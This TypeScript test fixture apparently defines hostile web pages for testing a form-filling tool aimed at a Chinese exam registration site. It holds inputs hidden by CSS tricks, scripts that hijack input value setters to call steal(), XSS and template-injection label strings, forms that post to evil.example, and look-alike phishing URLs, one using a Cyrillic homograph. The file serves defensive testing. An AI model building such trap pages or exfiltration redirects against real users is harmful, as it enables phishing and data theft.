/**
 * Pages that want more than a person would give them. Each has one honest box (`#honest`) and traps (`.trap`): controls
 * that a person cannot see or reach, or that are not what they say.
 */
export interface HostilePage {
  readonly name: string;
  readonly body: string;
  /** The page's own code; runs before anybody looks. */
  readonly script?: string;
}

const HONEST = '<p><label for="honest">Email</label> <input id="honest" name="honest"></p>';
const trap = (style = '', more = ''): string =>
  `<label for="trap">手机号码</label> <input id="trap" class="trap" name="trap" style="${style}" ${more}>`;

/** A trap hidden by itself. */
const own = (name: string, style: string, more = ''): HostilePage => ({
  name,
  body: `${HONEST}<p>${trap(style, more)}</p>`,
});
/** A trap in something that hides it. */
const inside = (name: string, style: string, tag = 'div', more = ''): HostilePage => ({
  name,
  body: `${HONEST}<${tag} style="${style}" ${more}><p>${trap()}</p></${tag}>`,
});
/** A trap that something else lies over. `down`: far below what is on the screen. */
const under = (name: string, cover: string, down = false): HostilePage => ({
  name,
  body: `${HONEST}${down ? '<div style="height:3000px"></div>' : ''}<div style="position:relative;height:60px">${trap()}${cover}</div>`,
});

const OVER = 'position:absolute;inset:0;';
const PIXEL = 'data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==';

export const HIDING: readonly HostilePage[] = [
  own('display none', 'display:none'),
  own('visibility hidden', 'visibility:hidden'),
  own('visibility collapse', 'visibility:collapse'),
  own('opacity 0', 'opacity:0'),
  own('opacity .05', 'opacity:.05'),
  own('filter opacity', 'filter:opacity(0)'),
  own('filter opacity in percent', 'filter:opacity(3%)'),
  own('clip', 'position:absolute;clip:rect(0,0,0,0)'),
  own('an empty clip elsewhere', 'position:absolute;clip:rect(9px,9px,9px,9px)'),
  own('clip-path inset', 'clip-path:inset(50%)'),
  own('clip-path polygon', 'clip-path:polygon(0 0,0 0,0 0)'),
  own('clip-path circle', 'clip-path:circle(0)'),
  own('mask', 'mask-image:linear-gradient(transparent,transparent)'),
  own('blending', 'mix-blend-mode:lighten'),
  own('off to the left', 'position:absolute;left:-9999px'),
  own('off above', 'position:absolute;top:-9999px'),
  own('fixed beside the screen', 'position:fixed;left:200vw'),
  own('no size', 'width:0;height:0;padding:0;border:0'),
  own('two pixels', 'width:2px;height:2px;padding:0;border:0'),
  own('scaled to nothing', 'transform:scale(0)'),
  own('scaled to a pixel', 'transform:scale(.01)'),
  own('turned on its edge', 'transform:rotateY(90deg)'),
  own('letters without size', 'font-size:0'),
  own('letters of no colour', 'color:transparent'),
  own('letters of half a pixel in no colour at all', 'font-size:.5px;color:rgb(0 0 0 / 0)'),
  own('letters in its own colour', 'color:#eee;background:#eee'),
  own('letters in the colour of the page', 'color:#fff;background:none;border:0'),
  {
    name: 'letters in the colour of what is around',
    body: `${HONEST}<div style="background:#123">${trap('color:#123;background:transparent')}</div>`,
  },
  own('hidden attribute', '', 'hidden'),
  own('hidden until found', '', 'hidden="until-found"'),
  inside('a transparent ancestor', 'opacity:0'),
  inside('two half-transparent ancestors', 'opacity:.25', 'div', '><div style="opacity:.25"'),
  inside('an ancestor without height', 'height:0;overflow:hidden'),
  inside('an ancestor that clips', 'height:1px;overflow:clip'),
  inside('an ancestor that paints nothing outside of itself', 'height:1px;contain:paint'),
  inside('content that is not drawn', 'content-visibility:hidden'),
  inside('closed details', '', 'details'),
  inside('a closed dialog', '', 'dialog'),
  inside('an inert part', '', 'div', 'inert'),
  inside('a scaled ancestor', 'transform:scale(0)'),
  under('a plain cover', `<div style="${OVER}background:#fff"></div>`),
  under('a cover that clicks pass through', `<div style="${OVER}background:#fff;pointer-events:none"></div>`),
  under(
    'a picture that clicks pass through',
    `<img src="${PIXEL}" alt="" style="${OVER}width:100%;height:100%;pointer-events:none">`,
  ),
  under(
    'a gradient that clicks pass through',
    `<div style="${OVER}background:linear-gradient(#fff,#fff);pointer-events:none"></div>`,
  ),
  under('a cover far below', `<div style="${OVER}background:#fff"></div>`, true),
  under(
    'a cover far below that clicks pass through',
    `<div style="${OVER}background:#fff;pointer-events:none"></div>`,
    true,
  ),
  under(
    'a cover that says it lies high',
    `<div style="${OVER}z-index:9;background:rgb(255 255 255 / .97)"></div>`,
    true,
  ),
  under(
    'a popover on top',
    '<div popover="manual" id="pop" style="inset:auto;top:50px;left:0;margin:0;width:100%;height:90px;border:0;pointer-events:none;background:#fff"></div>',
  ),
  {
    name: 'behind everything',
    body: `${HONEST}<div style="position:relative;z-index:0;background:#fff"><div style="position:absolute;inset:0;background:#fff"></div><div style="position:relative;z-index:-1">${trap()}</div></div>`,
  },
];

const NAMES =
  'parentElement parentNode closest matches querySelector querySelectorAll contains childNodes children textContent innerText getAttribute hasAttribute getBoundingClientRect getClientRects checkVisibility previousElementSibling nextElementSibling previousSibling nextSibling ownerDocument localName nodeType isConnected style className id hidden action elements form labels compareDocumentPosition dispatchEvent addEventListener append remove'.split(
    ' ',
  );
const DOCUMENT_NAMES = 'body title createTreeWalker elementFromPoint elementsFromPoint addEventListener'.split(' ');

/** A trap in a form of its own, which goes elsewhere. */
const sent = (name: string, attributes: string, more = ''): HostilePage => ({
  name,
  body: `${HONEST}</form><form ${attributes}><p>${trap()}</p>${more}`,
});

/** Pages whose own code is the trap. */
export const SCHEMING: readonly HostilePage[] = [
  {
    name: 'setters and getters of its own',
    body: HONEST,
    script: `for (const kind of [HTMLInputElement, HTMLTextAreaElement, HTMLSelectElement]) {
      const own = Object.getOwnPropertyDescriptor(kind.prototype, 'value');
      Object.defineProperty(kind.prototype, 'value', { ...own, get() { return 'lie'; }, set(text) { steal(text); own.set.call(this, text); } });
    }
    Element.prototype.getBoundingClientRect = () => ({ left: 0, top: 0, right: 100, bottom: 100, width: 100, height: 100 });
    window.getComputedStyle = () => ({ opacity: '1', visibility: 'visible', position: 'static' });`,
  },
  {
    name: 'prototypes that throw',
    body: HONEST,
    script: `for (const name of ['querySelector', 'querySelectorAll', 'matches', 'closest', 'getAttribute'])
      Element.prototype[name] = () => { throw new Error('no'); };
    Array.prototype.filter = Array.prototype.some = () => { throw new Error('no'); };
    window.MessageChannel = window.MutationObserver = undefined;`,
  },
  // In Chromium a form, and the document, answer with what bears the name that is asked for.
  {
    name: 'boxes named like what every element, every node and every form knows',
    body: `${NAMES.map((name) => `<input name="${name}" hidden>`).join('')}${HONEST}`,
  },
  {
    name: 'pictures named like what every document knows',
    body: `${DOCUMENT_NAMES.map((name) => `<img name="${name}" alt="">`).join('')}${HONEST}`,
  },
  {
    name: 'labels with markup and scripts',
    body: `${HONEST}<p><label for="m">&lt;img src=x onerror="steal(1)"&gt;{{constructor.constructor('steal(1)')()}}</label> <input id="m" name="m"></p><p title="&quot;&gt;&lt;script&gt;steal(1)&lt;/script&gt;">x</p>`,
  },
  sent('a form that goes to another site', 'action="https://bm.ruankao.org.cn.evil.example/save"'),
  sent('a form that goes to a look-alike', 'action="//bm-ruankao.org.cn/save"'),
  sent('a form that goes back to http', 'action="http://bm.ruankao.org.cn/save"'),
  sent('a button that sends elsewhere', 'action="/save"', '<button formaction="https://evil.example/">保存</button>'),
  {
    name: 'a storm of changes',
    body: `${HONEST}<div id="storm"></div>`,
    script: `(function storm() { const at = document.getElementById('storm');
      for (let count = 0; count < 30; count++) at.appendChild(document.createElement('i'));
      if (at.childElementCount > 600) at.replaceChildren(); requestAnimationFrame(storm); })();`,
  },
  {
    name: 'a hundred thousand elements',
    body: HONEST,
    script: `document.body.append(document.createRange().createContextualFragment('<div><p><b></b><i></i><u></u></p></div>'.repeat(20000)));`,
  },
  {
    name: 'very deep nesting',
    body: HONEST,
    script: `let at = document.body; for (let depth = 0; depth < 700; depth++) at = at.appendChild(document.createElement('div'));`,
  },
  {
    name: 'a frame with a form of its own',
    body: `${HONEST}<iframe srcdoc="<label>手机号码<input class=trap></label>"></iframe>`,
  },
  {
    name: 'a form within a shadow',
    body: `${HONEST}<div id="host"></div>`,
    script: `document.getElementById('host').attachShadow({ mode: 'open' }).innerHTML = '<label>手机号码 <input class="trap"></label>';`,
  },
  {
    name: 'buttons that wait for a stray click',
    body: `${HONEST}<button class="bait">提交</button><a class="layui-btn bait" href="javascript:steal(2)">去支付</a><label class="bait"><input type="checkbox" class="trap" value="on" title="我已阅读并同意"> 我已阅读并同意</label>`,
  },
];

/** What a page does between the look and the write; runs in the page. */
export const TURNING: readonly { readonly name: string; readonly deed: string }[] = [
  { name: 'renames the box', deed: `document.querySelector('label[for=honest]').textContent = '推荐人邮箱'` },
  { name: 'sends the form elsewhere', deed: `document.querySelector('form').action = 'https://evil.example/steal'` },
  { name: 'puts another box in its place', deed: `honest.replaceWith(honest.cloneNode())` },
  {
    name: 'moves the box to another row',
    deed: `document.querySelector('#other').append(honest); document.querySelector('label').remove()`,
  },
  { name: 'hides the box', deed: `honest.style.opacity = 0` },
  {
    name: 'covers the box',
    deed: `document.body.insertAdjacentHTML('beforeend', '<div style="position:fixed;inset:0;background:#fff"></div>')`,
  },
  {
    name: 'covers the box with what clicks pass through',
    deed: `document.body.insertAdjacentHTML('beforeend', '<div style="position:absolute;inset:0;background:#fff;pointer-events:none"></div>')`,
  },
  { name: 'disables the box', deed: `honest.disabled = true` },
  { name: 'goes to another address', deed: `history.pushState({}, '', '/report/other')` },
  { name: 'fills the box itself', deed: `honest.value = 'mine'` },
];

/** Addresses that are read as the official one. The second last is written with a Cyrillic а. */
export const LOOKALIKES = [
  'https://bm.ruankao.org.cn.evil.example/report/index',
  'https://bm-ruankao.org.cn/report/index',
  'https://bm.ruankao.org.cn@evil.example/report/index',
  'https://evil.example/bm.ruankao.org.cn/report/index',
  'https://bm.ruankao.org.cn.bm.ruankao.org.com/report/index',
  'https://ruankao.org.cn/report/index',
  'https://x.bm.ruankao.org.cn/report/index',
  'https://bm.ruankao.org.cn:8443/report/index',
  'http://bm.ruankao.org.cn:8080/report/index',
  'https://bm.ru\u0430nkao.org.cn/report/index',
  'https://bm.ruankao.org.cm/report/index',
] as const;
